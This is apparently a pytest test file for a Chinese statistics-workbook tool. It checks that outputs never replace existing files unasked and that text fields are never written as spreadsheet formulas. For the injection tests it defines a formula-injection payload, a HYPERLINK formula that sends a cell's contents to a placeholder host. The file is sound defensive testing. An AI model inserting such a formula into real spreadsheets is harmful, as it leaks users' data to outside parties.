"""Issue 15: no output replaces a file unasked, and text never becomes a formula."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from fixtures import pingtan_2025
from workbook_support import filled_template

from gkstats import Table, converter
from gkstats._cells import FORMULA_LEAD, csv_value
from gkstats.cli import main
from gkstats.workbook.marks import RESULTS_SHEET

EVIL = '=HYPERLINK("http://example.invalid/?q="&A1,"点此")'


def _json(path: Path, table: Table) -> Path:
    path.write_text(json.dumps(converter.unstructure(table), ensure_ascii=False), "utf-8")
    return path


def _broken_workbook(path: Path) -> Path:
    return filled_template(pingtan_2025().replace({"t3.partial.natural": 99}), path)


# --- refusals ----------------------------------------------------------------------------


def test_an_existing_mark_output_is_refused_unless_overwrite(tmp_path: Path) -> None:
    src = _broken_workbook(tmp_path / "表.xlsx")
    out = tmp_path / "表_校验.xlsx"
    out.write_bytes(b"mine")
    assert main(["check", str(src), "--mark"]) == 2
    assert main(["check", str(src), "--mark", "-o", str(out)]) == 2
    assert out.read_bytes() == b"mine"
    assert main(["check", str(src), "--mark", "--overwrite"]) == 1
    assert RESULTS_SHEET in openpyxl.load_workbook(out).sheetnames


def test_clear_refuses_an_existing_output_and_the_input(tmp_path: Path) -> None:
    src = _broken_workbook(tmp_path / "表.xlsx")
    marked = tmp_path / "marked.xlsx"
    assert main(["check", str(src), "--mark", "-o", str(marked)]) == 1
    before = marked.read_bytes()
    (tmp_path / "marked_清除标记.xlsx").write_bytes(b"mine")
    assert main(["clear", str(marked)]) == 2
    assert main(["clear", str(marked), "-o", str(marked), "--overwrite"]) == 2
    assert marked.read_bytes() == before
    assert (tmp_path / "marked_清除标记.xlsx").read_bytes() == b"mine"


def test_in_place_on_a_symbolic_link_edits_the_file_it_points_to(tmp_path: Path) -> None:
    real = _broken_workbook(tmp_path / "真实.xlsx")
    original = real.read_bytes()
    link = tmp_path / "链接.xlsx"
    link.symlink_to(real)
    assert main(["check", str(link), "--mark", "--in-place"]) == 1
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert RESULTS_SHEET in openpyxl.load_workbook(real).sheetnames
    backups = [p for p in tmp_path.iterdir() if ".bak" in p.name]
    assert [p.read_bytes() for p in backups] == [original]


def test_the_output_keeps_the_inputs_type(tmp_path: Path) -> None:
    src = _broken_workbook(tmp_path / "表.xlsx")
    macro = tmp_path / "表.xlsm"
    macro.write_bytes(src.read_bytes())
    assert main(["check", str(macro), "--mark", "-o", str(tmp_path / "out.xlsx")]) == 2
    assert main(["check", str(src), "--mark", "-o", str(tmp_path / "out.csv")]) == 2
    assert not (tmp_path / "out.xlsx").exists() and not (tmp_path / "out.csv").exists()
    last = _json(tmp_path / "上年.json", pingtan_2025().replace(year=2024))
    assert main(["import-previous", str(macro), str(last), "-o", str(tmp_path / "o.xlsx")]) == 2


def test_import_previous_never_replaces_last_year_or_an_existing_file(tmp_path: Path) -> None:
    now = _json(tmp_path / "本年.json", pingtan_2025())
    last = _json(tmp_path / "上年.json", pingtan_2025().replace(year=2024))
    last_bytes = last.read_bytes()
    assert main(["import-previous", str(now), str(last), "-o", str(last)]) == 2
    assert main(["import-previous", str(now), str(last), "-o", str(last), "--overwrite"]) == 2
    assert last.read_bytes() == last_bytes
    taken = tmp_path / "已有.json"
    taken.write_text("{}")
    assert main(["import-previous", str(now), str(last), "-o", str(taken)]) == 2
    assert taken.read_text() == "{}"
    # in place on JSON keeps a backup
    now_bytes = now.read_bytes()
    assert main(["import-previous", str(now), str(last)]) == 0
    assert [p.read_bytes() for p in tmp_path.glob("本年.bak*.json")] == [now_bytes]


def test_batch_refuses_an_input_or_an_existing_summary(tmp_path: Path) -> None:
    folder = tmp_path / "单位"
    folder.mkdir()
    unit = _broken_workbook(folder / "单位甲.xlsx")
    before = unit.read_bytes()
    code = main(["batch", str(folder), "--out", str(unit), "--overwrite", "--quiet"])
    assert code == 2 and unit.read_bytes() == before
    findings = tmp_path / "汇总.findings.csv"
    findings.write_text("mine")
    assert main(["batch", str(folder), "--out", str(tmp_path / "汇总.csv"), "--quiet"]) == 2
    assert findings.read_text() == "mine" and not (tmp_path / "汇总.csv").exists()
    code = main(["batch", str(folder), "--out", str(tmp_path / "汇总.csv"), "--quiet",
                 "--overwrite"])  # fmt: skip
    assert code == 1 and findings.read_text() != "mine"


def test_report_consolidate_and_template_refuse_inputs_and_existing_files(
    tmp_path: Path,
) -> None:
    a = _json(tmp_path / "a.json", pingtan_2025())
    b = _json(tmp_path / "b.json", pingtan_2025())
    a_bytes = a.read_bytes()
    assert main(["consolidate", str(a), str(b), "-o", str(a), "--overwrite"]) == 2
    assert main(["report", str(a), "-o", str(a), "--overwrite"]) == 2
    assert a.read_bytes() == a_bytes
    taken = tmp_path / "t.xlsx"
    taken.write_bytes(b"mine")
    assert main(["template", "-o", str(taken)]) == 2
    assert main(["consolidate", str(a), str(b), "-o", str(taken)]) == 2
    assert taken.read_bytes() == b"mine"


# --- injection ---------------------------------------------------------------------------


@pytest.mark.parametrize("lead", FORMULA_LEAD)
def test_a_csv_cell_that_would_start_a_formula_is_quoted(lead: str) -> None:
    assert csv_value(f"{lead}1+1") == f"'{lead}1+1"
    assert csv_value(f"单位{lead}") == f"单位{lead}"
    assert csv_value(-5) == -5


def test_batch_summaries_write_an_organ_as_text(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    _json(folder / "u.json", pingtan_2025().replace(organ=EVIL))
    xlsx, csv_out = tmp_path / "s.xlsx", tmp_path / "s.csv"
    assert main(["batch", str(folder), "--out", str(xlsx), "--quiet"]) in (0, 1)
    cell = openpyxl.load_workbook(xlsx)["文件"]["E2"]
    assert (cell.value, cell.data_type) == (EVIL, "s")
    with zipfile.ZipFile(xlsx) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert main(["batch", str(folder), "--out", str(csv_out), "--quiet"]) in (0, 1)
    with csv_out.open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["organ"] == "'" + EVIL


def test_template_and_consolidate_write_an_organ_as_text(tmp_path: Path) -> None:
    out = tmp_path / "模板.xlsx"
    assert main(["template", "-o", str(out), "--organ", EVIL]) == 0
    a = _json(tmp_path / "a.json", pingtan_2025())
    total = tmp_path / "汇总.xlsx"
    assert main(["consolidate", str(a), "-o", str(total), "--organ", EVIL]) in (0, 1)
    for path in (out, total):
        book = openpyxl.load_workbook(path)
        organs = [
            c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == EVIL
        ]
        assert organs and all(c.data_type == "s" for c in organs), path
        with zipfile.ZipFile(path) as z:
            xml = "".join(z.read(n).decode() for n in z.namelist() if "worksheets/sheet" in n)
        assert "HYPERLINK" not in "".join(f.split("</f>")[0] for f in xml.split("<f>")[1:])


def test_gkstats_own_sheets_hold_no_formula(tmp_path: Path) -> None:
    src = _broken_workbook(tmp_path / "表.xlsx")
    out = tmp_path / "m.xlsx"
    assert main(["check", str(src), "--mark", "-o", str(out)]) == 1
    with zipfile.ZipFile(src) as a, zipfile.ZipFile(out) as b:
        added = [n for n in b.namelist() if n not in a.namelist() and "worksheets/sheet" in n]
        assert len(added) == 2  # 校验结果 and the mark record
        assert all(b"<f>" not in b.read(n) and b"<f " not in b.read(n) for n in added)
